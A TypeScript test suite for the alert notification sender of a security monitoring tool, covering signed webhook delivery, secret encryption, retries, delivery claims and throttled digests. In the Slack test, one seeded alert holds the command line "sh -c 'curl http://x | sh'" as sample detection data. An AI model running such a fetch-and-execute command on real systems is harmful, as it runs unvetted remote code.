import { createHmac } from "node:crypto";
import { readFileSync } from "node:fs";
import path from "node:path";
import { Readable } from "node:stream";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import type { z } from "zod";
import type { Actor } from "../auth/admin-outcome";
import { issueApiToken } from "../auth/api-tokens";
import { seedAlert, seedRule } from "../db/alert-test-fixtures";
import { prisma } from "../db/client";
import { claimDeliveries } from "../db/notification-queue";
import { syncBuiltinRules } from "../db/rules";
import { setUpTestDatabase } from "../db/test-database-hooks";
import { ingestEvents } from "../ingest/ingest";
import { loadBuiltinRules } from "../rules/load";
import { loadSample } from "../samples/sample-data";
import { createChannel } from "./channels-admin";
import { WebhookPayloadSchema } from "./message";
import { NotificationRuleInputSchema } from "./rule-schemas";
import { createNotificationRule } from "./rules-admin";
import { alertLoader, runSenderRound, type SenderOptions, sendDelivery } from "./sender";
import { startHttpReceiver } from "./test-receivers";

setUpTestDatabase();
process.env.KEELWATCH_SECRET_KEY = "sender-test-key";
process.env.KEELWATCH_PUBLIC_URL = "https://keelwatch.example.com/";

const admin: Actor = {
  principal: { kind: "user", id: "admin-1", username: "admin", displayName: "Admin", role: "admin" },
  ip: null,
  sessionIdHash: null,
};

const FAST: SenderOptions = {
  pollMs: 10,
  backoffMs: 20,
  maxBackoffMs: 100,
  giveUpAfterMs: 3_600_000,
  leaseMs: 60_000,
  outboxBatch: 200,
  sendBatch: 50,
  concurrency: 4,
};

/** Rounds until one finds nothing to do (retries wait out their short backoff in between). */
async function drain(options: SenderOptions = FAST, rounds = 50) {
  for (let i = 0; i < rounds; i++) {
    const result = await runSenderRound(options);
    const pending = await prisma().notificationDelivery.count({ where: { status: "pending" } });
    const queued = await prisma().notificationOutbox.count();
    if (!result.busy && pending === 0 && queued === 0) return;
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
}

async function channelOrThrow(input: Parameters<typeof createChannel>[1]) {
  const created = await createChannel(admin, input);
  if (!created.ok) throw new Error(created.message);
  return created.value;
}

async function ruleOrThrow(input: z.input<typeof NotificationRuleInputSchema>) {
  const created = await createNotificationRule(admin, NotificationRuleInputSchema.parse(input));
  if (!created.ok) throw new Error(created.message);
  return created.value;
}

/** Starts each test with no channels, rules, alerts or queued work. */
async function clearNotifications() {
  const db = prisma();
  await db.notificationRule.deleteMany();
  await db.notificationChannel.deleteMany();
  await db.notificationOutbox.deleteMany();
  await db.notificationThrottle.deleteMany();
  await db.alert.deleteMany();
}

const receivers: { close: () => Promise<void> }[] = [];
async function receiver(answer?: (n: number) => number) {
  const started = await startHttpReceiver(answer);
  receivers.push(started);
  return started;
}

beforeAll(async () => {
  await syncBuiltinRules(await loadBuiltinRules());
});
afterEach(async () => {
  await Promise.all(receivers.splice(0).map((r) => r.close()));
  await clearNotifications();
});
afterAll(async () => {
  await Promise.all(receivers.map((r) => r.close()));
});

describe("the outbox trigger", () => {
  it("queues nothing while no notification rule is enabled, and one row per new alert once one is", async () => {
    const rule = await seedRule(prisma());
    await seedAlert(prisma(), { ruleId: rule.id, eventIds: [] });
    expect(await prisma().notificationOutbox.count()).toBe(0);

    const channel = await channelOrThrow({ name: "hook", kind: "webhook", url: "http://127.0.0.1:9/x" });
    await ruleOrThrow({ name: "all", channelIds: [channel.id] });
    const alert = await seedAlert(prisma(), { ruleId: rule.id, eventIds: [] });
    const queued = await prisma().notificationOutbox.findMany();
    expect(queued.map((row) => row.alertId)).toEqual([alert.id]);
  });
});

describe("webhook delivery to a real HTTP receiver", () => {
  it("posts each high and critical alert of an ingested upload once, signed, with its idempotency key and headers", async () => {
    const hook = await receiver();
    const secret = "a-shared-secret-of-some-length";
    const channel = await channelOrThrow({
      name: "soc-webhook",
      kind: "webhook",
      url: `${hook.url}/hooks/keelwatch?token=s3cr3t-token`,
      hmacSecret: secret,
      headers: { "X-Team": "blue" },
    });
    const rule = await ruleOrThrow({ name: "high and above", minSeverity: "high", channelIds: [channel.id] });

    // Through the real ingest path: the batch writer thread stores these alerts with its own SQL.
    await loadSample("ecs", { id: null, label: "test" });
    const alerts = await prisma().alert.findMany({ where: { severityRank: { gte: 3 } } });
    expect(alerts.length).toBeGreaterThan(0);
    expect(await prisma().notificationOutbox.count()).toBe(await prisma().alert.count());

    await drain();

    expect(hook.requests).toHaveLength(alerts.length);
    const deliveries = await prisma().notificationDelivery.findMany({ where: { channelId: channel.id } });
    for (const request of hook.requests) {
      expect(request.path).toBe("/hooks/keelwatch?token=s3cr3t-token");
      expect(request.headers["content-type"]).toBe("application/json");
      expect(request.headers["x-team"]).toBe("blue");
      const expected = `sha256=${createHmac("sha256", secret).update(request.body).digest("hex")}`;
      expect(request.headers["x-keelwatch-signature"]).toBe(expected);
      const payload = WebhookPayloadSchema.parse(JSON.parse(request.body));
      expect(request.headers["idempotency-key"]).toBe(payload.deliveryId);
      expect(request.headers["x-keelwatch-delivery"]).toBe(payload.deliveryId);
      expect(deliveries.map((d) => d.id)).toContain(payload.deliveryId);
      expect(payload).toMatchObject({ type: "alert", notificationRule: { id: rule.id, name: "high and above" } });
      const [sent] = payload.alerts;
      const stored = alerts.find((alert) => alert.id === sent?.id);
      expect(stored, "the message names a stored high or critical alert").toBeDefined();
      expect(sent).toMatchObject({
        url: `https://keelwatch.example.com/alerts/${stored?.id}`,
        severity: stored?.severity,
        rule: { id: stored?.ruleId, name: stored?.ruleName },
        host: stored?.hostName,
        container: { id: stored?.containerId, name: stored?.containerName },
        process: { commandLine: stored?.commandLine },
      });
      expect(sent?.pod.namespace).toBeTruthy();
    }
    expect(new Set(hook.requests.map((r) => r.headers["idempotency-key"])).size).toBe(alerts.length);
    expect(deliveries.every((d) => d.status === "delivered" && d.attempts === 1)).toBe(true);
    expect(await prisma().notificationOutbox.count()).toBe(0);
  });

  it("stores the URL, the HMAC secret and header values encrypted, never in clear", async () => {
    await channelOrThrow({
      name: "sealed",
      kind: "webhook",
      url: "https://hooks.example.com/T000/B000/very-secret-path",
      hmacSecret: "another-shared-secret-value",
      headers: { Authorization: "Bearer header-secret-value" },
    });
    const [row] = await prisma().$queryRaw<{ config: string; secrets: string }[]>`
      SELECT "config", "secrets" FROM "NotificationChannel" WHERE "name" = 'sealed'`;
    const stored = JSON.stringify(row);
    expect(stored).not.toContain("very-secret-path");
    expect(stored).not.toContain("another-shared-secret-value");
    expect(stored).not.toContain("header-secret-value");
    expect(row?.secrets).toMatch(/^v1:/);
  });

  it("retries a failing receiver with backoff under the same key, and marks the channel failing, then healthy", async () => {
    const hook = await receiver(() => 503);
    const channel = await channelOrThrow({ name: "flaky", kind: "webhook", url: `${hook.url}/in` });
    await ruleOrThrow({ name: "everything", channelIds: [channel.id] });
    const detection = await seedRule(prisma(), { severity: "critical" });
    await seedAlert(prisma(), { ruleId: detection.id, severity: "critical", eventIds: [], containerName: "web" });

    for (let round = 0; round < 40 && hook.requests.length < 3; round++) {
      await runSenderRound(FAST);
      await new Promise((resolve) => setTimeout(resolve, 30));
    }
    expect(hook.requests.length).toBeGreaterThanOrEqual(3);
    const failing = await prisma().notificationChannel.findUniqueOrThrow({ where: { id: channel.id } });
    expect(failing.consecutiveFailures).toBeGreaterThanOrEqual(3);
    expect(failing.lastError).toMatch(/HTTP 503: receiver unavailable/);
    const delivery = await prisma().notificationDelivery.findFirstOrThrow({ where: { channelId: channel.id } });
    expect(delivery.status).toBe("pending");
    expect(delivery.nextAttemptAt.getTime()).toBeGreaterThan(Date.now() - 1_000);

    hook.answerWith(() => 200);
    await drain();
    const keys = new Set(hook.requests.map((r) => r.headers["idempotency-key"]));
    expect(keys).toEqual(new Set([delivery.id]));
    const done = await prisma().notificationDelivery.findUniqueOrThrow({
      where: { id: delivery.id },
      include: { attemptLog: true },
    });
    expect(done.status).toBe("delivered");
    expect(done.attempts).toBe(hook.requests.length);
    expect(done.attemptLog.filter((a) => !a.ok).every((a) => a.statusCode === 503)).toBe(true);
    expect(done.attemptLog.at(-1)).toMatchObject({ ok: true, statusCode: 200 });
    const healthy = await prisma().notificationChannel.findUniqueOrThrow({ where: { id: channel.id } });
    expect(healthy.consecutiveFailures).toBe(0);
    expect(healthy.lastSuccessAt).not.toBeNull();
  });

  it("tries a receiver that is down once per backoff, not once per queued message", async () => {
    const hook = await receiver(() => 503);
    const channel = await channelOrThrow({ name: "down", kind: "webhook", url: `${hook.url}/in` });
    await ruleOrThrow({ name: "everything", channelIds: [channel.id] });
    const detection = await seedRule(prisma());
    for (let i = 0; i < 20; i++)
      await seedAlert(prisma(), { ruleId: detection.id, eventIds: [], containerId: `c${i}` });
    const options = { ...FAST, backoffMs: 300, maxBackoffMs: 300 };

    // The first round cannot know yet: its parallel sends (4) may all go out before the first failure returns.
    await runSenderRound(options);
    const firstRound = hook.requests.length;
    expect(firstRound).toBeGreaterThanOrEqual(1);
    expect(firstRound).toBeLessThanOrEqual(FAST.concurrency);
    // While the channel rests, nothing is sent to it, however many messages wait.
    await runSenderRound(options);
    expect(hook.requests).toHaveLength(firstRound);
    // After the rest, one delivery probes the channel; the others wait for its answer.
    await new Promise((resolve) => setTimeout(resolve, 400));
    await runSenderRound(options);
    expect(hook.requests).toHaveLength(firstRound + 1);
    expect(await prisma().notificationDelivery.count({ where: { claimedUntil: { not: null } } })).toBe(0);
    expect(await prisma().notificationDelivery.count({ where: { status: "pending" } })).toBe(20);
  });

  it("drops a delivery whose alert was deleted before it was sent, without blaming the channel", async () => {
    const hook = await receiver(() => 503);
    const channel = await channelOrThrow({ name: "gone", kind: "webhook", url: `${hook.url}/in` });
    await ruleOrThrow({ name: "everything", channelIds: [channel.id] });
    const detection = await seedRule(prisma());
    const alert = await seedAlert(prisma(), { ruleId: detection.id, eventIds: [] });
    await runSenderRound(FAST);
    expect(hook.requests).toHaveLength(1);
    // Sample data removed while the receiver was down.
    await prisma().alert.delete({ where: { id: alert.id } });
    hook.answerWith(() => 200);
    await new Promise((resolve) => setTimeout(resolve, 150));
    await drain();
    expect(hook.requests).toHaveLength(1);
    const delivery = await prisma().notificationDelivery.findFirstOrThrow({ where: { alertId: alert.id } });
    expect(delivery).toMatchObject({ status: "failed", lastError: "the alert was deleted before it could be sent" });
    const after = await prisma().notificationChannel.findUniqueOrThrow({ where: { id: channel.id } });
    expect(after.consecutiveFailures).toBe(1);
  });

  it("sends a delivery only while its claim is its own: not after the claim ran out and another sender took it", async () => {
    const hook = await receiver();
    const channel = await channelOrThrow({ name: "lease", kind: "webhook", url: `${hook.url}/in` });
    const detection = await seedRule(prisma());
    const alert = await seedAlert(prisma(), { ruleId: detection.id, eventIds: [] });
    const delivery = await prisma().notificationDelivery.create({
      data: { channelId: channel.id, kind: "alert", alertId: alert.id, status: "pending", nextAttemptAt: new Date() },
    });
    const base = "https://keelwatch.example.com";
    // One sender claims a batch; it takes long to reach this delivery, and its lease on it runs out meanwhile.
    const claimedAt = new Date();
    const firstClaim = new Date(claimedAt.getTime() + 1_000);
    expect(await claimDeliveries(claimedAt, firstClaim, 10)).toEqual([delivery.id]);
    const later = new Date(firstClaim.getTime() + 1);
    const secondClaim = new Date(later.getTime() + 60_000);
    expect(await claimDeliveries(later, secondClaim, 10)).toEqual([delivery.id]);

    expect(await sendDelivery(delivery.id, firstClaim, FAST, alertLoader(base), base)).toBeNull();
    expect(hook.requests).toHaveLength(0);
    expect(await sendDelivery(delivery.id, secondClaim, FAST, alertLoader(base), base)).toMatchObject({ ok: true });
    expect(hook.requests).toHaveLength(1);
    expect(await prisma().notificationDelivery.findUniqueOrThrow({ where: { id: delivery.id } })).toMatchObject({
      status: "delivered",
      attempts: 1,
    });
  });

  it("never sends one delivery twice when two senders run at once", async () => {
    const hook = await receiver();
    const channel = await channelOrThrow({ name: "shared", kind: "webhook", url: `${hook.url}/in` });
    await ruleOrThrow({ name: "everything", channelIds: [channel.id] });
    const detection = await seedRule(prisma());
    for (let i = 0; i < 30; i++)
      await seedAlert(prisma(), { ruleId: detection.id, eventIds: [], containerId: `c${i}` });

    await Promise.all([runSenderRound(FAST), runSenderRound(FAST), runSenderRound(FAST)]);
    await drain();
    const keys = hook.requests.map((r) => r.headers["idempotency-key"]);
    expect(keys).toHaveLength(30);
    expect(new Set(keys).size).toBe(30);
  });
});

describe("Slack-compatible delivery", () => {
  it("posts a text message naming the alert, its severity, where it ran, the command line and a link", async () => {
    const hook = await receiver();
    const channel = await channelOrThrow({ name: "slack", kind: "slack", url: `${hook.url}/services/T/B/X` });
    await ruleOrThrow({ name: "critical only", minSeverity: "critical", channelIds: [channel.id] });
    const detection = await seedRule(prisma(), { name: "Shell <in> container", severity: "critical" });
    const alert = await seedAlert(prisma(), {
      ruleId: detection.id,
      ruleName: "Shell <in> container",
      severity: "critical",
      eventIds: [],
      containerName: "web-1",
      hostName: "node-7",
      commandLine: "sh -c 'curl http://x | sh'",
    });
    await seedAlert(prisma(), { ruleId: detection.id, severity: "medium", eventIds: [] });

    await drain();
    expect(hook.requests).toHaveLength(1);
    const text = JSON.parse(hook.requests[0]?.body ?? "{}").text as string;
    expect(text).toContain("*CRITICAL: Shell &lt;in&gt; container in container web-1, host node-7*");
    expect(text).toContain("Command line: `sh -c 'curl http://x | sh'`");
    expect(text).toContain(`<https://keelwatch.example.com/alerts/${alert.id}|Open the alert in Keelwatch>`);
    expect(hook.requests[0]?.headers["idempotency-key"]).toBeTruthy();
  });
});

describe("sensor sources", () => {
  it("sends only alerts raised by events that the rule's sensor tokens sent", async () => {
    const hook = await receiver();
    const channel = await channelOrThrow({ name: "sensors", kind: "webhook", url: `${hook.url}/in` });
    const sensor = await issueApiToken({ name: "sensor-a", role: "ingest", expiresAt: null, createdById: null });
    await ruleOrThrow({ name: "from sensor-a", sources: [sensor.id], channelIds: [channel.id] });

    const events = readFileSync(
      path.join(import.meta.dirname, "..", "..", "e2e", "fixtures", "ecs-cloud-defend.ndjson"),
    );
    const fromSensor = await ingestEvents(Readable.from([events]), {
      fileName: "sensor.ndjson",
      format: "auto",
      createdById: null,
      apiTokenId: sensor.id,
    });
    await prisma().alert.deleteMany({ where: { uploadId: { not: fromSensor.uploadId } } });
    const fromPerson = await loadSample("falco", { id: null, label: "test" });
    expect(await prisma().alert.count({ where: { uploadId: fromPerson.uploadId ?? "" } })).toBeGreaterThan(0);
    const upload = await prisma().upload.findUniqueOrThrow({ where: { id: fromSensor.uploadId } });
    expect(upload.apiTokenId).toBe(sensor.id);

    await drain();
    const sensorAlerts = await prisma().alert.findMany({ where: { uploadId: fromSensor.uploadId } });
    expect(sensorAlerts.length).toBeGreaterThan(0);
    const sent = hook.requests.flatMap((r) => WebhookPayloadSchema.parse(JSON.parse(r.body)).alerts.map((a) => a.id));
    expect(sent.sort()).toEqual(sensorAlerts.map((alert) => alert.id).sort());
  });
});

describe("throttling", () => {
  it("sends the first alert of a rule and container at once and the rest in one digest when the window ends", async () => {
    const hook = await receiver();
    const channel = await channelOrThrow({ name: "digest", kind: "webhook", url: `${hook.url}/in` });
    const rule = await ruleOrThrow({ name: "throttled", throttleMinutes: 10, channelIds: [channel.id] });
    const detection = await seedRule(prisma());
    const first = await seedAlert(prisma(), { ruleId: detection.id, eventIds: [], containerId: "c-a" });
    await drain();
    const rest = [];
    for (let i = 0; i < 4; i++)
      rest.push(await seedAlert(prisma(), { ruleId: detection.id, eventIds: [], containerId: "c-a" }));
    const other = await seedAlert(prisma(), { ruleId: detection.id, eventIds: [], containerId: "c-b" });
    await drain();

    const sent = () => hook.requests.map((r) => WebhookPayloadSchema.parse(JSON.parse(r.body)));
    expect(sent().map((p) => p.alerts.map((a) => a.id))).toEqual([[first.id], [other.id]]);
    expect(await prisma().notificationDelivery.count({ where: { status: "held" } })).toBe(4);

    // The window ends (moved into the past rather than waiting ten minutes).
    const past = new Date(Date.now() - 1_000);
    await prisma().notificationThrottle.updateMany({ data: { windowEndsAt: past } });
    await prisma().notificationDelivery.updateMany({ where: { status: "held" }, data: { nextAttemptAt: past } });
    await drain();

    const digest = sent()[2];
    expect(digest).toMatchObject({ type: "digest", digest: { count: 4 }, notificationRule: { id: rule.id } });
    expect(digest?.alerts.map((a) => a.id).sort()).toEqual(rest.map((a) => a.id).sort());
    expect(hook.requests).toHaveLength(3);
    const held = await prisma().notificationDelivery.findMany({ where: { alertId: { in: rest.map((a) => a.id) } } });
    expect(held.every((d) => d.status === "digested" && d.digestId === digest?.deliveryId)).toBe(true);
  });
});
